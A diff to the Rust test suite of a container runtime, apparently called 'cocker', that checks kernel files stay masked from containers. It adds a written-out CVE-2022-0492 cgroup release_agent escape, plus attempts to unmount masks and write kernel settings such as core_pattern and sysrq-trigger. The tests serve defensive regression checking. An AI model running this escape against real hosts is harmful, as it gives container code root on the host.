@@ -1,7 +1,7 @@
 //! What the kernel tells everybody and lets root set, by files: out of reach, and no second way to them.
 
 use super::program::with_attacker;
-use crate::host::{Host, with_image_test};
+use crate::host::{Host, eventually, with_image_test};
 use std::fs;
 use std::path::Path;
 
@@ -94,25 +94,40 @@ fn settings_of_the_host_are_not_written(host: &Host) {
     other.succeeds().prints("");
     let open = host.inside("mighty", &format!("/attacker open w {paths}"));
     assert!(open.contains("/proc/sys/kernel/core_pattern"), "{open}");
+    // Control, file by file: each that this kernel has is opened by a privileged container, or by the host.
+    let program = super::program::path(host);
+    let by_host = host.shell(&format!("{} open w {paths}", program.display()));
+    let by_host = by_host.succeeds().stdout();
+    for path in SETTINGS.iter().filter(|path| Path::new(path).exists()) {
+        let is_opened = |opened: &str| opened.lines().any(|line| line == *path);
+        assert!(is_opened(&open) || is_opened(&by_host), "{path}");
+    }
 }
 
 fn what_tells_of_the_host_is_not_read(host: &Host) {
     booted(host, "web", "");
     booted(host, "mighty", "--privileged");
     // A mask may be opened, and is empty.
-    let read = |container: &str| {
-        let each = format!(
-            "for f in {}; do [ $(head -c 64 $f 2>/dev/null | wc -c) = 0 ] || echo $f; done",
-            SECRETS.join(" ")
-        );
-        host.inside(container, &each)
-    };
+    let each = format!(
+        "for f in {}; do [ $(timeout 5 head -c 64 $f 2>/dev/null | wc -c) = 0 ] || echo $f; done",
+        SECRETS.join(" ")
+    );
+    let read = |container: &str| host.inside(container, &each);
     assert_eq!(read("web"), "");
     assert!(
         read("mighty").contains("/proc/interrupts"),
         "{}",
         read("mighty")
     );
+    // Control, file by file: each that this kernel has tells something to a privileged container, or to the host.
+    let told = read("mighty") + "\n" + &host.shell(&each).succeeds().stdout();
+    for path in SECRETS.iter().filter(|path| Path::new(path).exists()) {
+        // Of messages and keys there may be none.
+        let may_be_empty = ["/proc/kmsg", "/proc/keys"].contains(path);
+        let is_told = told.lines().any(|line| line == *path);
+        let opens = || fs::File::open(path).is_ok();
+        assert!(is_told || may_be_empty && opens(), "{path}: {told}");
+    }
     let listed = |container: &str| {
         let each = format!(
             "ls -A {} 2>/dev/null | grep -v -e : -e '^$'; true",
@@ -123,6 +138,12 @@ fn what_tells_of_the_host_is_not_read(host: &Host) {
     assert_eq!(listed("web"), "");
     if fs::read_dir("/sys/firmware").is_ok_and(|mut entries| entries.next().is_some()) {
         assert_ne!(listed("mighty"), "");
+    }
+    // Control: on the host the same line lists each of them that has entries.
+    for folder in FOLDERS {
+        let is_filled = fs::read_dir(folder).is_ok_and(|mut entries| entries.next().is_some());
+        let naive = host.shell(&format!("ls -A {folder} 2>/dev/null | head -n 1"));
+        assert_eq!(naive.stdout().is_empty(), !is_filled, "{folder}");
     }
 }
 
@@ -150,13 +171,26 @@ fn no_mask_comes_off(host: &Host) {
         "unshare --mount umount -l /proc/sys",
         "unshare --user --map-root-user --mount umount -l /proc/sys",
     ];
+    let left = written(
+        "/proc/sys/kernel/panic /proc/sysrq-trigger /sys/kernel/profiling /mnt/kernel/panic /mnt/sys/kernel/panic",
+    );
+    let read = "head -c 40 /proc/interrupts /mnt/interrupts 2>/dev/null | grep CPU; true";
+    let look = format!("{left}; {read}");
+    // Control: without masks the same look sees what it is after.
+    host.cocker("create -m test -c mighty --privileged -b").ok();
+    let open = host.inside("mighty", &look);
+    let (panic, profiling) = ("/proc/sys/kernel/panic\n", "/sys/kernel/profiling\n");
+    assert!(open.contains(panic) && open.contains("CPU"), "{open}");
+    // With the host's network /sys is read-only there too; not so on the host.
+    let by_host = host.shell(&look).succeeds().stdout();
+    assert_eq!(
+        by_host.contains(profiling),
+        Path::new(profiling.trim_end()).exists(),
+        "{by_host}"
+    );
     for attempt in attempts {
         host.cocker_words(&["run", "web", "--cmd", attempt]);
-        let left = written(
-            "/proc/sys/kernel/panic /proc/sysrq-trigger /sys/kernel/profiling /mnt/kernel/panic /mnt/sys/kernel/panic",
-        );
-        let read = "head -c 9 /proc/interrupts /mnt/interrupts 2>/dev/null | grep CPU; true";
-        let left = host.inside("web", &format!("{left}; {read}"));
+        let left = host.inside("web", &look);
         assert_eq!(left, "", "after {attempt}");
         host.inside("web", "umount -l /mnt 2>/dev/null; true");
     }
@@ -219,8 +253,16 @@ fn own_settings_can_be_changed(host: &Host) {
 
 fn the_hosts_network_is_not_set_from_a_container_in_it(host: &Host) {
     booted(host, "web", "");
-    let written = "/attacker open w /proc/sys/net/ipv4/ip_forward /proc/sys/net/core/somaxconn";
-    assert_eq!(host.inside("web", written), "");
+    let (forward, backlog) = (
+        "/proc/sys/net/ipv4/ip_forward",
+        "/proc/sys/net/core/somaxconn",
+    );
+    let written = format!("/attacker open w {forward} {backlog}");
+    assert_eq!(host.inside("web", &written), "");
+    // Control: privileged, it is.
+    booted(host, "mighty", "--privileged");
+    let both = format!("{forward}\n{backlog}");
+    assert_eq!(host.inside("mighty", &written), both);
 }
 
 /// Where a v1 hierarchy's root can be seen, a program may be named there that the host's root runs.
@@ -266,6 +308,60 @@ fn no_program_is_named_that_the_host_runs_when_a_cgroup_is_empty(host: &Host) {
             "(echo 1 > /sys/fs/cgroup/notify_on_release) 2>/dev/null && echo written; true";
         assert_eq!(host.inside(container, written), "");
     }
+    // CVE-2022-0492 as it is done, in a hierarchy that nobody else has.
+    let (agent, ran) = (
+        host.folder("agent").join("agent"),
+        host.folder("agent").join("ran"),
+    );
+    let script = format!("#!/bin/sh\nid -u > {}\n", ran.display());
+    fs::write(&agent, script).expect("the folder is ours");
+    host.shell(&format!("chmod 755 {}", agent.display()))
+        .succeeds();
+    let hierarchy = format!("cocker-attack-{}", std::process::id());
+    let exploit = format!(
+        "mkdir -p /tmp/own; mount -t cgroup -o none,name={hierarchy} cg /tmp/own && mkdir /tmp/own/x && \
+         echo 1 > /tmp/own/x/notify_on_release; echo {} > /tmp/own/release_agent; \
+         sh -c 'echo $$ > /tmp/own/x/cgroup.procs'; rmdir /tmp/own/x; umount /tmp/own; true",
+        agent.display()
+    );
+    for container in ["web", "mighty"] {
+        for around in [
+            "",
+            "unshare --mount --cgroup",
+            "unshare --user --map-root-user --mount --cgroup",
+        ] {
+            let words = exploit.replace('\'', "'\\''");
+            let line = match around {
+                "" => exploit.clone(),
+                _ => format!("{around} sh -c '{words}'"),
+            };
+            host.cocker_words(&["run", container, "--", "sh", "-c", &line]);
+            assert!(!ran.exists(), "{container}, within {around}");
+        }
+    }
+    // Control: all the same, but without the namespace of cgroups around the privileged container, the host's root runs it.
+    let root = host.root_process("mighty");
+    let words = exploit.replace('\'', "'\\''");
+    let outcome = host.shell(&format!("nsenter -t {root} --mount --pid sh -c '{words}'"));
+    eventually(&format!("the host has run it: {outcome}"), || {
+        fs::read_to_string(&ran).is_ok_and(|said| said == "0\n")
+    });
+    // A hierarchy goes when it is unmounted while it has no folder, and the kernel still held the last one then.
+    let place = host.folder("own");
+    let remount = format!(
+        "mount -t cgroup -o none,name={hierarchy} cg {0} && umount {0}",
+        place.display()
+    );
+    let mut looked = 0;
+    eventually("the hierarchy has gone", || {
+        // It takes its time to go; mounted within that, it stays.
+        if looked % 40 == 0 {
+            host.shell(&remount).succeeds();
+        }
+        looked += 1;
+        let hierarchies = fs::read_to_string("/proc/self/cgroup").expect("proc is there");
+        !hierarchies.contains(&hierarchy)
+    });
     // On the host, whose root sees the roots of hierarchies, it is there to be opened.
     for (place, _) in hierarchies {
         let agent = Path::new(place).join("release_agent");
@@ -285,5 +381,9 @@ fn other_masks_are_where_they_were_with_the_hosts_ids(host: &Host) {
                     mount -o remount,bind,rw /proc/sys; unshare --user --map-root-user --mount umount -l /proc/sys; true";
     host.inside("web", &format!("({attempts}) 2>/dev/null"));
     assert_eq!(host.inside("web", &written), "");
-    assert_eq!(host.inside("web", "head -c 3 /proc/interrupts"), "");
+    assert_eq!(host.inside("web", "head -c 40 /proc/interrupts"), "");
+    // Control: with the same ids and no masks.
+    booted(host, "mighty", "--privileged");
+    assert_ne!(host.inside("mighty", &written), "");
+    assert_ne!(host.inside("mighty", "head -c 40 /proc/interrupts"), "");
 }
